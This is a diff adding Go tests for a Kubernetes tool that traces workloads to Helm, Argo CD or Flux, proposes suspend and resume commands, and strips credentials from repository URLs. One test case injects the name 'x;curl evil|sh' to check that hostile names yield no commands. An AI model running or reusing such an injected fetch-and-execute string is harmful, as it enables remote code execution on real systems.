@@ -1,0 +1,150 @@
+// Copyright 2026 The Pullmedic Authors
+// SPDX-License-Identifier: Apache-2.0
+
+package mend
+
+import (
+	"net/http"
+	"net/http/httptest"
+	"os/exec"
+	"slices"
+	"strings"
+	"testing"
+
+	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
+	"k8s.io/client-go/rest"
+
+	"github.com/pullmedic/pullmedic/evidence"
+	"github.com/pullmedic/pullmedic/internal/edit"
+	"github.com/pullmedic/pullmedic/internal/remedy"
+)
+
+// around is a mender over an API server that has these objects, by path.
+func around(t *testing.T, objects map[string]string) *Mender {
+	t.Helper()
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		if text, ok := objects[r.URL.Path]; ok {
+			_, _ = w.Write([]byte(text))
+			return
+		}
+		w.WriteHeader(http.StatusForbidden)
+		_, _ = w.Write([]byte(`{"kind":"Status","apiVersion":"v1","status":"Failure","reason":"Forbidden","code":403}`))
+	}))
+	t.Cleanup(server.Close)
+	writes, err := edit.New(&rest.Config{Host: server.URL}, edit.Options{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return New(Options{Edit: writes})
+}
+
+const (
+	application = `{"apiVersion":"argoproj.io/v1alpha1","kind":"Application","metadata":{"name":"shop-prod"},"spec":{
+		"source":{"repoURL":"https://robot:canary@git.acme.example/deploy.git?token=canary","path":"apps/api","targetRevision":"main"},"syncPolicy":{"automated":{"selfHeal":true}}}}`
+	kustomization = `{"apiVersion":"kustomize.toolkit.fluxcd.io/v1","kind":"Kustomization","metadata":{"name":"apps"},"spec":{"path":"./clusters/prod","interval":"10m0s","sourceRef":{"kind":"GitRepository","name":"deploy"}}}`
+	gitRepository = `{"apiVersion":"source.toolkit.fluxcd.io/v1","kind":"GitRepository","metadata":{"name":"deploy"},"spec":{"url":"ssh://git@git.acme.example/deploy"}}`
+	helmRelease   = `{"apiVersion":"helm.toolkit.fluxcd.io/v2","kind":"HelmRelease","metadata":{"name":"api"},"spec":{"interval":"5m","chart":{"spec":{"chart":"api","version":"1.4.0","sourceRef":{"kind":"HelmRepository","name":"acme"}}},"driftDetection":{"mode":"enabled"}}}`
+)
+
+func TestWhereAnObjectComesFrom(t *testing.T) {
+	argo := map[string]string{"/apis/argoproj.io/v1alpha1/namespaces/argocd/applications/shop-prod": application}
+	flux := map[string]string{
+		"/apis/kustomize.toolkit.fluxcd.io/v1/namespaces/flux-system/kustomizations/apps": kustomization,
+		"/apis/source.toolkit.fluxcd.io/v1/namespaces/flux-system/gitrepositories/deploy": gitRepository,
+		"/apis/helm.toolkit.fluxcd.io/v2/namespaces/shop/helmreleases/api":                helmRelease,
+	}
+	for name, c := range map[string]struct {
+		objects map[string]string
+		labels  map[string]string
+		manager evidence.Manager
+		above   evidence.Object
+		source  []string
+		back    string
+		lasting []string // commands
+		resume  []string
+	}{
+		"by nobody": {},
+		"Helm": {manager: evidence.Manager{Tool: "Helm", Name: "shop/api"}, labels: map[string]string{"helm.sh/chart": "api-1.4.0"},
+			source: []string{"Helm release api in namespace shop", "chart api-1.4.0"}, back: "the next helm upgrade sets back what is changed here", lasting: []string{"helm get values api -n shop"}},
+		"Argo CD, with self-heal": {objects: argo, manager: evidence.Manager{Tool: "Argo CD", Name: "shop-prod"},
+			source: []string{"Argo CD application shop-prod", "from https://git.acme.example/deploy.git, path apps/api, revision main"}, back: "Argo CD sets back what is changed here within seconds, as self-heal is on",
+			lasting: []string{"argocd app set shop-prod --sync-policy none"}, resume: []string{"argocd app set shop-prod --sync-policy automated --self-heal"}},
+		"Argo CD, whose application may not be read": {manager: evidence.Manager{Tool: "Argo CD", Name: "shop-prod"},
+			source: []string{"Argo CD application shop-prod"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on",
+			lasting: []string{"argocd app set shop-prod --sync-policy none"}, resume: []string{"argocd app set shop-prod --sync-policy automated"}},
+		"Flux, a Kustomization": {objects: flux, manager: evidence.Manager{Tool: "Flux", Name: "flux-system/apps"},
+			source:  []string{"Flux Kustomization apps in namespace flux-system", "path ./clusters/prod", "from GitRepository deploy in namespace flux-system (ssh://git.acme.example/deploy)"},
+			back:    "Flux sets back what is changed here within 10m0s, its interval",
+			lasting: []string{"flux suspend kustomization apps -n flux-system"}, resume: []string{"flux resume kustomization apps -n flux-system"}},
+		"Flux, a HelmRelease": {objects: flux, manager: evidence.Manager{Tool: "Flux", Name: "shop/api"}, labels: map[string]string{"helm.toolkit.fluxcd.io/name": "api", "helm.toolkit.fluxcd.io/namespace": "shop"},
+			source: []string{"Flux HelmRelease api in namespace shop", "chart api 1.4.0", "from HelmRepository acme in namespace shop"}, back: "Flux sets back what is changed here within 5m0s, its interval",
+			lasting: []string{"flux suspend helmrelease api -n shop"}, resume: []string{"flux resume helmrelease api -n shop"}},
+		"an operator's object": {above: evidence.Object{Kind: "Kafka", Name: "orders"}, source: []string{"kafka/orders makes it"}, back: "the operator of kafka/orders may set back what is changed here", lasting: []string{"kubectl edit kafka orders -n shop"}},
+		"a hostile name":       {manager: evidence.Manager{Tool: "Argo CD", Name: "x;curl evil|sh"}, source: []string{"Argo CD application x;curl evil|sh"}, back: "Argo CD sets back what is changed here with its next sync, within seconds where self-heal is on"},
+	} {
+		t.Run(name, func(t *testing.T) {
+			live := &unstructured.Unstructured{Object: map[string]any{"kind": "Deployment"}}
+			live.SetLabels(c.labels)
+			target := remedy.Target{Object: remedy.Object{Namespace: "shop", Name: "api"}, Manager: c.manager, Above: c.above}
+			around(t, c.objects).origin(t.Context(), live, &target)
+			if !slices.Equal(target.Source, c.source) || target.Back != c.back {
+				t.Errorf("source %q, want %q; back %q, want %q", target.Source, c.source, target.Back, c.back)
+			}
+			commands := func(steps []remedy.Step) (all []string) {
+				for _, s := range steps {
+					all = append(all, s.Commands...)
+				}
+				return all
+			}
+			if got := commands(target.Lasting); !slices.Equal(got, c.lasting) {
+				t.Errorf("lasting %q, want %q", got, c.lasting)
+			}
+			if got := commands(target.Resume); !slices.Equal(got, c.resume) {
+				t.Errorf("resume %q, want %q", got, c.resume)
+			}
+			for _, s := range slices.Concat(target.Lasting, target.Resume) {
+				if strings.Contains(s.What+s.Where, "canary") {
+					t.Errorf("%q shows a login", s.What+s.Where)
+				}
+				for _, command := range s.Commands {
+					if err := exec.CommandContext(t.Context(), "sh", "-n", "-c", command).Run(); err != nil {
+						t.Errorf("no shell reads %q: %v", command, err)
+					}
+				}
+			}
+		})
+	}
+}
+
+func TestHowManyPodsARolloutReplacesAtATime(t *testing.T) {
+	for name, c := range map[string]struct {
+		kind string
+		spec map[string]any
+		want string
+	}{
+		"a Deployment's default": {"Deployment", map[string]any{"strategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": "25%"}}}, "25 % at a time"},
+		"a number":               {"Deployment", map[string]any{"strategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": int64(2)}}}, "2 at a time"},
+		"none":                   {"Deployment", map[string]any{"strategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": int64(0)}}}, "none before another is ready"},
+		"all":                    {"Deployment", map[string]any{"strategy": map[string]any{"type": "Recreate"}}, "all at once"},
+		"a DaemonSet":            {"DaemonSet", map[string]any{"updateStrategy": map[string]any{"type": "RollingUpdate", "rollingUpdate": map[string]any{"maxUnavailable": int64(1)}}}, "1 at a time"},
+		"one on deletion":        {"DaemonSet", map[string]any{"updateStrategy": map[string]any{"type": "OnDelete"}}, ""},
+		"a StatefulSet":          {"StatefulSet", map[string]any{"updateStrategy": map[string]any{"type": "RollingUpdate"}}, "one at a time, the last first"},
+		"a pod":                  {"Pod", nil, ""},
+	} {
+		if got := pace(&unstructured.Unstructured{Object: map[string]any{"kind": c.kind, "spec": c.spec}}); got != c.want {
+			t.Errorf("%s: %q, want %q", name, got, c.want)
+		}
+	}
+}
+
+func TestAnAddressIsShownWithoutALogin(t *testing.T) {
+	for address, want := range map[string]string{
+		"https://git.example/a.git": "https://git.example/a.git", "https://me:canary@git.example/a?token=canary#canary": "https://git.example/a",
+		"git@git.example:acme/a.git": "git.example:acme/a.git", "oci://ghcr.io/acme/charts": "oci://ghcr.io/acme/charts", "": "", "canary@": "",
+	} {
+		if got := bare(address); got != want {
+			t.Errorf("%q is %q, want %q", address, got, want)
+		}
+	}
+}
